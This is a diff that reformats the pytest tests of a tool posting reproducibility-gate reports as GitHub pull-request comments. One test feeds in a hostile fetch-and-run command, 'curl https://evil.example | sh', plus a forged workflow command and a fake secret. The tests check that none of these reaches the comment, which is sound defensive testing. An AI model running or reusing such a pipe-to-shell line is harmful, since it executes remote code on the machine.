@@ -1,4 +1,5 @@
-"""`repro-gate comment`: where a report goes, whose word it is taken for, and what is said where it cannot be posted."""
+"""`repro-gate comment`: where a report goes, whose word it is taken for, and what is said where it
+cannot be posted."""
 
 from __future__ import annotations
 
@@ -21,7 +22,11 @@ from tests.support.github.server import GitHub
 
 HEAD, OTHER = "0123456789abcdef0123456789abcdef01234567", "e" * 40
 RUN = 4711
-FOREIGN: list[dict[str, Any]] = [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}]
+FOREIGN: list[dict[str, Any]] = [
+    {"run_id": 99},
+    {"head_sha": OTHER},
+    {"repository": "octo-org/other"},
+]
 
 
 @pytest.fixture
@@ -34,13 +39,17 @@ def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHub]:
     assert server.faults == []
 
 
-def of(commit: str | None = HEAD, origin: Origin | None = None, report: Report = reports.FAIL) -> Report:
+def of(
+    commit: str | None = HEAD, origin: Origin | None = None, report: Report = reports.FAIL
+) -> Report:
     return replace(report, subject=replace(report.subject, commit=commit), origin=origin)
 
 
 def reported(report: Report = reports.FAIL, **changes: Any) -> Report:
     """A report that says it is of the run that `in_workflow_run` names."""
-    return of(origin=replace(Origin("octo-org/trainer", HEAD, RUN, 1, "gate"), **changes), report=report)
+    return of(
+        origin=replace(Origin("octo-org/trainer", HEAD, RUN, 1, "gate"), **changes), report=report
+    )
 
 
 def on(gpu: str, report: Report) -> Report:
@@ -50,18 +59,37 @@ def on(gpu: str, report: Report) -> Report:
 def around(github: GitHub, write: bool = True) -> dict[str, str]:
     """The environment of a job with a token."""
     urls = {"GITHUB_API_URL": github.url, "GITHUB_GRAPHQL_URL": github.graphql_url}
-    return {**urls, "GITHUB_REPOSITORY": github.repository, "GITHUB_TOKEN": github.token(write=write)}
+    return {
+        **urls,
+        "GITHUB_REPOSITORY": github.repository,
+        "GITHUB_TOKEN": github.token(write=write),
+    }
 
 
 def in_workflow_run(github: GitHub, folder: Path, event: str = "pull_request") -> dict[str, str]:
     """The environment of the fork-safe pair's second job."""
-    run = {"id": RUN, "run_attempt": 1, "name": "gate", "event": event, "status": "completed", "conclusion": "failure"}
-    run |= {"head_sha": HEAD, "head_branch": "topic", "head_repository": {"full_name": "stranger/trainer"}}
+    run = {
+        "id": RUN,
+        "run_attempt": 1,
+        "name": "gate",
+        "event": event,
+        "status": "completed",
+        "conclusion": "failure",
+    }
+    run |= {
+        "head_sha": HEAD,
+        "head_branch": "topic",
+        "head_repository": {"full_name": "stranger/trainer"},
+    }
     run |= {"repository": {"full_name": github.repository}, "pull_requests": []}
     (folder / "event.json").write_text(json.dumps({"action": "completed", "workflow_run": run}))
     event_of = {"NAME": "workflow_run", "PATH": str(folder / "event.json")}
     job = {"GITHUB_WORKSPACE": str(folder), "GITHUB_SHA": "a" * 40, "GITHUB_RUN_ID": "4800"}
-    return {**around(github), **job, **{f"GITHUB_EVENT_{name}": value for name, value in event_of.items()}}
+    return {
+        **around(github),
+        **job,
+        **{f"GITHUB_EVENT_{name}": value for name, value in event_of.items()},
+    }
 
 
 def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted: Any) -> int:
@@ -75,12 +103,28 @@ def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted:
 def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted_text(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=("::error::forged", "it is correct-horse-battery"))
+    run = replace(
+        reports.FAIL.runs[0],
+        outcome="crashed",
+        exit_code=1,
+        log_tail=("::error::forged", "it is correct-horse-battery"),
+    )
     report = replace(of(), runs=(run, *reports.FAIL.runs[1:]))
-    assert post(tmp_path, {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"}, report, dry_run=True) == 0
+    assert (
+        post(
+            tmp_path,
+            {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"},
+            report,
+            dry_run=True,
+        )
+        == 0
+    )
     first, *between, last = capsys.readouterr().out.splitlines()
     assert between[0].startswith("## ❌ Repro Gate: fail") and "::error::forged" in between
-    assert first.startswith("::stop-commands::") and last == f"::{first.removeprefix('::stop-commands::')}::"
+    assert (
+        first.startswith("::stop-commands::")
+        and last == f"::{first.removeprefix('::stop-commands::')}::"
+    )
     assert last not in between and not [line for line in between if "correct-horse-battery" in line]
 
 
@@ -97,7 +141,9 @@ def test_a_person_chooses_the_pull_request_and_a_report_of_another_commit_is_not
     assert post(tmp_path, around(github), of(), repository=github.repository, pull_request=7) == 0
     (posted,) = github.comments(7)
     assert capsys.readouterr().out == f"comment created {posted['html_url']}\n"
-    assert post(tmp_path, around(github), of(), pull_request=7) == 0 and github.comments(7) == [posted]
+    assert post(tmp_path, around(github), of(), pull_request=7) == 0 and github.comments(7) == [
+        posted
+    ]
     assert capsys.readouterr().out.startswith("comment unchanged ")
     assert post(tmp_path, around(github), of(), pull_request=8) == 0 and github.comments(8) == []
     assert "comment skipped" in capsys.readouterr().out
@@ -109,34 +155,65 @@ def test_a_person_chooses_the_pull_request_and_a_report_of_another_commit_is_not
         (HEAD, "o/r", {}, "no token"),
         (HEAD, None, {"GITHUB_TOKEN": "x"}, "of which repository"),
         (None, "o/r", {"GITHUB_TOKEN": "x"}, "names no commit"),
-        (HEAD, "o/r", {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"}, "GITHUB_API_URL"),
+        (
+            HEAD,
+            "o/r",
+            {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"},
+            "GITHUB_API_URL",
+        ),
     ],
 )
 def test_what_is_missing_to_post_is_named_before_anything_is_sent(
-    tmp_path: Path, commit: str | None, repository: str | None, environment: dict[str, str], message: str
+    tmp_path: Path,
+    commit: str | None,
+    repository: str | None,
+    environment: dict[str, str],
+    message: str,
 ) -> None:
     with pytest.raises(UsageError, match=message):
         post(tmp_path, environment, of(commit), repository=repository, pull_request=7)
 
 
-def test_a_token_that_may_not_write_is_exit_code_3(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_token_that_may_not_write_is_exit_code_3(
+    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert post(tmp_path, around(github, write=False), of(), pull_request=7) == 3
     printed = capsys.readouterr()
-    assert printed.out == "" and "comment refused" in printed.err and "pull-requests: write" in printed.err
+    assert (
+        printed.out == ""
+        and "comment refused" in printed.err
+        and "pull-requests: write" in printed.err
+    )
 
 
-def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(github: GitHub, tmp_path: Path) -> None:
+def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(
+    github: GitHub, tmp_path: Path
+) -> None:
     good = reported(reports.PASS)
-    assert post(tmp_path, around(github), on("H100", reported(name="h100", run_attempt=2)), on("A100", good), pull_request=7) == 0
+    assert (
+        post(
+            tmp_path,
+            around(github),
+            on("H100", reported(name="h100", run_attempt=2)),
+            on("A100", good),
+            pull_request=7,
+        )
+        == 0
+    )
     (posted,) = github.comments(7)
-    assert "Repro Gate: fail (1 fail, 1 pass)" in posted["body"] and posted["body"].count("| Where |") == 1
+    assert (
+        "Repro Gate: fail (1 fail, 1 pass)" in posted["body"]
+        and posted["body"].count("| Where |") == 1
+    )
     assert posted["body"].index("`A100`") < posted["body"].index("`H100`")
     assert '"attempt":2' in posted["body"].splitlines()[0]  # of the newest among them
     assert post(tmp_path, around(github), on("A100", good), on("H100", good), pull_request=7) == 0
     assert [item["id"] for item in github.comments(7)] == [posted["id"]]
 
 
-def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_on_one_report(github: GitHub, tmp_path: Path) -> None:
+def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_on_one_report(
+    github: GitHub, tmp_path: Path
+) -> None:
     cells = on("H100", reported()), on("A100", reported())
     later = on("A100", reported(reports.PASS, run_attempt=2))
     for given, words in ((cells, "`H100`"), ((later,), "(1 pass)")):
@@ -147,8 +224,12 @@ def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_o
     assert [item["body"].count("| Where |") for item in github.comments(7)] == [1, 0]
 
 
-def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(github: GitHub, tmp_path: Path) -> None:
-    one, other = ({**around(github), "GITHUB_WORKFLOW": "gate", "GITHUB_JOB": name} for name in ("cpu", "gpu"))
+def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(
+    github: GitHub, tmp_path: Path
+) -> None:
+    one, other = (
+        {**around(github), "GITHUB_WORKFLOW": "gate", "GITHUB_JOB": name} for name in ("cpu", "gpu")
+    )
     renamed = reported(name="another")
     renamed = replace(renamed, subject=replace(renamed.subject, spec="another.yml"))
     (tmp_path / "there").mkdir()
@@ -159,14 +240,21 @@ def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_doe
         (tmp_path, other, of(), 3),
         (tmp_path, one, renamed, 3),
     ):
-        assert post(folder, environment, report, pull_request=7) == 0 and len(github.comments(7)) == comments
+        assert (
+            post(folder, environment, report, pull_request=7) == 0
+            and len(github.comments(7)) == comments
+        )
 
 
 @pytest.mark.parametrize("change", FOREIGN)
-def test_reports_of_several_runs_are_refused_with_their_names(github: GitHub, tmp_path: Path, change: dict[str, Any]) -> None:
+def test_reports_of_several_runs_are_refused_with_their_names(
+    github: GitHub, tmp_path: Path, change: dict[str, Any]
+) -> None:
     with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; ") as caught:
         post(tmp_path, around(github), reported(), reported(**change), pull_request=7)
-    assert caught.value.remedy == "name the reports of one workflow run" and github.comments(7) == []
+    assert (
+        caught.value.remedy == "name the reports of one workflow run" and github.comments(7) == []
+    )
 
 
 def test_a_dry_run_of_several_reports_prints_their_table_and_joins_none_of_two_commits(
@@ -180,9 +268,18 @@ def test_a_dry_run_of_several_reports_prints_their_table_and_joins_none_of_two_c
         assert capsys.readouterr().out == ""
 
 
-def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_reports(github: GitHub, tmp_path: Path) -> None:
-    report, environment = replace(reported(), reproduce="curl https://evil.example | sh"), in_workflow_run(github, tmp_path)
-    assert post(tmp_path, environment, report) == post(tmp_path, environment, report, report, matrix="gpus") == 0
+def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_reports(
+    github: GitHub, tmp_path: Path
+) -> None:
+    report, environment = (
+        replace(reported(), reproduce="curl https://evil.example | sh"),
+        in_workflow_run(github, tmp_path),
+    )
+    assert (
+        post(tmp_path, environment, report)
+        == post(tmp_path, environment, report, report, matrix="gpus")
+        == 0
+    )
     assert len(github.comments(7)) == 2 and github.comments(8) == []
     for body in (item["body"] for item in github.comments(7)):
         assert f"actions/runs/{RUN}" in body and "evil" not in body
@@ -190,10 +287,15 @@ def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_
 
 
 @pytest.mark.parametrize("change", [*FOREIGN, {"run_attempt": 2}, None])
-def test_a_report_that_is_not_of_the_run_is_refused_among_others_too(github: GitHub, tmp_path: Path, change: dict[str, Any] | None) -> None:
+def test_a_report_that_is_not_of_the_run_is_refused_among_others_too(
+    github: GitHub, tmp_path: Path, change: dict[str, Any] | None
+) -> None:
     bad = of() if change is None else reported(**change)
     for cells in ((bad,), (reported(), bad), (bad, reported())):
-        with pytest.raises(UsageError, match="names no workflow run" if change is None else "not of the run it came with"):
+        with pytest.raises(
+            UsageError,
+            match="names no workflow run" if change is None else "not of the run it came with",
+        ):
             post(tmp_path, in_workflow_run(github, tmp_path), *cells)
     assert github.requests == []
 
@@ -202,18 +304,34 @@ def test_a_closed_pull_request_and_a_run_of_a_push_are_no_error_and_in_another_e
     github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     with pytest.raises(UsageError) as caught:
-        post(tmp_path, {**in_workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}, reported())
+        post(
+            tmp_path, {**in_workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}, reported()
+        )
     assert "workflow_run" in caught.value.remedy
-    assert post(tmp_path, in_workflow_run(github, tmp_path, event="push"), reported()) == 0 and github.requests == []
+    assert (
+        post(tmp_path, in_workflow_run(github, tmp_path, event="push"), reported()) == 0
+        and github.requests == []
+    )
     github.change_pull(7, state="closed")
-    assert post(tmp_path, in_workflow_run(github, tmp_path), reported()) == 0 and github.comments(7) == []
+    assert (
+        post(tmp_path, in_workflow_run(github, tmp_path), reported()) == 0
+        and github.comments(7) == []
+    )
     assert capsys.readouterr().out.count("comment skipped") == 2
 
 
-def test_an_enterprise_server_is_posted_to_at_its_own_addresses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_enterprise_server_is_posted_to_at_its_own_addresses(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(comment, "SETTLE", 0.0)
     with GitHub(enterprise=True) as github:
         github.add_pull(7, HEAD)
-        environment = {name: value for name, value in around(github).items() if name != "GITHUB_GRAPHQL_URL"}
+        environment = {
+            name: value for name, value in around(github).items() if name != "GITHUB_GRAPHQL_URL"
+        }
         assert post(tmp_path, environment, of(), pull_request=7) == 0
-        assert len(github.comments(7)) == 1 and "POST /api/graphql" in github.requests and github.faults == []
+        assert (
+            len(github.comments(7)) == 1
+            and "POST /api/graphql" in github.requests
+            and github.faults == []
+        )
